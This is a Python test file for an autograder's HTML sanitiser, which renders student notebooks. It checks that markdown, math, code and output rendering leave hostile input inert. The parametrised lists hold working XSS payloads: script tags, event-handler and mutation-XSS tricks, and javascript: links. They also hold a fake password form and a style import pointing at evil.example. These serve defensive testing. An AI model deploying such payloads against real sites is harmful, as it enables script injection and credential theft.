"""What a notebook holds becomes HTML that does nothing; the oracle is a browser's parser."""

from __future__ import annotations

import base64
import io
import re

import pytest
from graded_class import png
from inert import assert_inert, elements, text
from nbformat.v4 import new_output
from PIL import Image

from autograde.safety.html import (
    code_html,
    image_uri,
    markdown_html,
    math_html,
    message_html,
    output_html,
)
from xaikit.handin.markers import TERMS

SCRIPT = "<script>alert(1)</script>"
HOSTILE = [
    SCRIPT,
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "</pre></code></div></main><form action=https://evil.example><input name=password>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/x.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](attachment:x.png)",
    '![a"onerror=alert(1)](x)',
    '<https://evil.example/"onmouseover=alert(1)>',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '<span data-math="0"></span>',
    '$x$ <span data-math="0"></span> <span data-math="7"></span>',
]
MATH = [
    r"\text{<script>alert(1)</script>}",
    r"\text{<img src=x onerror=alert(1)>}",
    r"\href{javascript:alert(1)}{x}",
    r"\href{https://evil.example}{x}",
    r"\style{background:url(https://evil.example)}{x}",
    r"\class{x}{y} \unicode{60}",
    r"</math><script>alert(1)</script>",
    r"\mbox{</mtext></math><img src=x onerror=alert(1)>}",
    r"\begin{matrix} <script> & x \end{matrix}",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_acts(payload: str) -> None:
    """Wherever it stands, hostile text is shown or dropped, never run."""
    for html in (
        code_html(payload),
        message_html(payload),
        message_html(f"`{payload}`"),
        markdown_html(payload),
        markdown_html(f"# {payload}\n\n- {payload}\n\n> {payload}"),
        math_html(payload),
        math_html(rf"\text{{{payload}}}", display=True),
        markdown_html(f"$${payload}$$"),
        output_html(new_output("stream", text=payload), payload),
        output_html(new_output("error", ename=payload, evalue=payload, traceback=[payload]), ""),
        output_html(new_output("display_data", {"text/plain": payload}), ""),
        output_html(new_output("display_data", {"text/html": payload}), ""),
        output_html(new_output("display_data", {"image/svg+xml": payload}), ""),
        output_html(new_output("display_data", {"application/javascript": payload}), ""),
        output_html(new_output("display_data", {"image/png": payload}), payload),
        output_html(new_output("display_data", {"image/png": png()}), f'"> {payload}'),
    ):
        assert_inert(f"<!doctype html><main>{html}</main>")


@pytest.mark.parametrize("source", MARKDOWN)
def test_markdown_does_nothing(source: str) -> None:
    """Links lead to web pages only, images are carried along or left out."""
    assert_inert(f"<!doctype html><main>{markdown_html(source)}</main>")


@pytest.mark.parametrize("tex", MATH)
def test_math_does_nothing(tex: str) -> None:
    """latex2mathml hands some of its input on as it is; cleaning stops that."""
    for html in (math_html(tex), markdown_html(f"${tex}$"), markdown_html(f"$$\n{tex}\n$$")):
        assert_inert(f"<!doctype html><main>{html}</main>")


def tags(html: str) -> list[str]:
    """Return the names of all elements."""
    return [tag for tag, _ in elements(html)]


def test_markdown_is_rendered() -> None:
    """Headings stand below the page's own; tables, lists, code and links are there."""
    html = markdown_html(
        "# Title\n\n**bold** [link](https://example.org) `code`\n\n"
        "| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n- one\n- two\n\n> said\n\n```python\nx = 1 < 2\n```\n"
    )
    found = tags(html)
    for tag in ("h3", "strong", "a", "code", "table", "td", "ul", "li", "blockquote", "pre"):
        assert tag in found
    assert "h1" not in found and "h2" not in found
    assert "x = 1 < 2" in text(html)
    link = next(a for tag, a in elements(html) if tag == "a")
    assert link["href"] == "https://example.org"
    assert "noopener" in link["rel"]


@pytest.mark.parametrize(
    "source", ["<!-- answer: why -->\nBecause.", "< !-- answer: why -->\nBecause."]
)
def test_the_marker_of_an_answer_is_not_shown(source: str) -> None:
    """It is there for the machine, as written or as cleaned."""
    assert text(markdown_html(source)) == "Because."


@pytest.mark.parametrize(
    "tex",
    [
        r"\phi_i = \sum_{S \subseteq N \setminus \{i\}} \frac{|S|!}{|N|!} v(S)",
        r"\mathbb{E}_{x\sim p}[f(x)] \le \lVert x \rVert_2",
        r"\begin{align} a &= b \\ c &= d \end{align}",
        r"\begin{aligned} a &= b \\ c &= d \end{aligned}",
    ],
)
def test_formulas_become_mathml(tex: str) -> None:
    """A known formula is set; none of its TeX is left to read."""
    html = math_html(tex, display=True)
    assert "math" in tags(html)
    assert "\u29f5" not in html  # no font of a plain machine has \\setminus's own sign
    assert "begin" not in text(html) and "frac" not in text(html)


@pytest.mark.parametrize("tex", [r"\unknowncommand{3}", r"\left( x", r"{", ""])
def test_formulas_that_cannot_be_read_are_shown_as_code(tex: str) -> None:
    """A student's slip costs neither the page nor the formula."""
    html = math_html(tex)
    assert "math" not in tags(html)
    assert text(html) == tex


def test_what_marks_the_line_of_the_deadline_is_not_shown() -> None:
    assert text(markdown_html(f"# Title\n\nDue on Friday. {TERMS}\n\nMore.")) == (
        "Title Due on Friday. More."
    )


def test_formulas_stand_where_they_were_written() -> None:
    """Text around a formula, and a price, stay as they are; code is not math."""
    html = markdown_html(r"Before $x^2$ between $y$ after, \$5, `$z$`.")
    assert tags(html).count("math") == 2
    assert re.fullmatch(r"Before x ?2 between y after, \$5, \$z\$\.", text(html))
    block = markdown_html("$$\\sum_i x_i$$\n\nThen\n\n\\begin{equation}\ny\n\\end{equation}")
    assert [a["display"] for t, a in elements(block) if t == "math"] == ["block", "block"]


def test_images_that_the_notebook_carries_are_shown() -> None:
    """A pasted image is shown, encoded anew; of one from elsewhere, its description is."""
    attachments = {"grid.png": {"image/png": png(40, 30)}}
    html = markdown_html("![my grid](attachment:grid.png)", attachments)
    image = next(a for tag, a in elements(html) if tag == "img")
    assert image["alt"] == "my grid"
    with Image.open(io.BytesIO(base64.b64decode(image["src"].split(",")[1]))) as shown:
        assert shown.size == (40, 30)
    unsaid = markdown_html("![](attachment:grid.png)", attachments)
    assert [a["alt"] for tag, a in elements(unsaid) if tag == "img"] == ["Image"]
    assert "img" not in tags(markdown_html("![my grid](https://example.org/grid.png)"))
    assert text(markdown_html("![my grid](https://example.org/grid.png)")) == "my grid"


def test_outputs() -> None:
    """Text and images are shown; an image says what it belongs to; unknown types are not."""
    assert text(output_html(new_output("stream", text="a\x1b[31mb\x1b[0m\n"), "")) == "ab"
    data = {"image/png": png(), "text/plain": "<Figure>"}
    html = output_html(new_output("display_data", data), "Image of double")
    assert [a["alt"] for tag, a in elements(html) if tag == "img"] == ["Image of double"]
    assert "Figure" not in text(html)
    assert output_html(new_output("display_data", {"text/html": "<b>x</b>"}), "") == ""
    assert output_html({"output_type": "display_data", "data": None}, "") == ""
    assert output_html({"output_type": "update_display_data"}, "") == ""


@pytest.mark.parametrize("content", ["", "AAAA", "no base64!", None, 7, ["x"]])
def test_only_images_become_images(content: object) -> None:
    """What does not begin as a PNG or JPEG does is none."""
    assert image_uri("image/png", content) == ""
    assert image_uri("image/jpeg", png()) == ""
    assert image_uri("image/svg+xml", png()) == ""


def test_code_is_coloured_and_whole() -> None:
    """Every character of the source is still there, blank lines at its ends included."""
    source = "\n\ndef f(x):\n    return x < 1 and '<b>'\n"
    html = code_html(source)
    assert any(tag == "span" and a.get("class") == "k" for tag, a in elements(html))
    assert text(html) == " ".join(source.split())


@pytest.mark.parametrize("payload", HOSTILE[:7])
def test_the_oracle_sees_what_acts(payload: str) -> None:
    """The same text, not cleaned, is noticed: else the tests above would prove nothing."""
    with pytest.raises(AssertionError):
        assert_inert(f"<!doctype html><main>{payload}</main>")
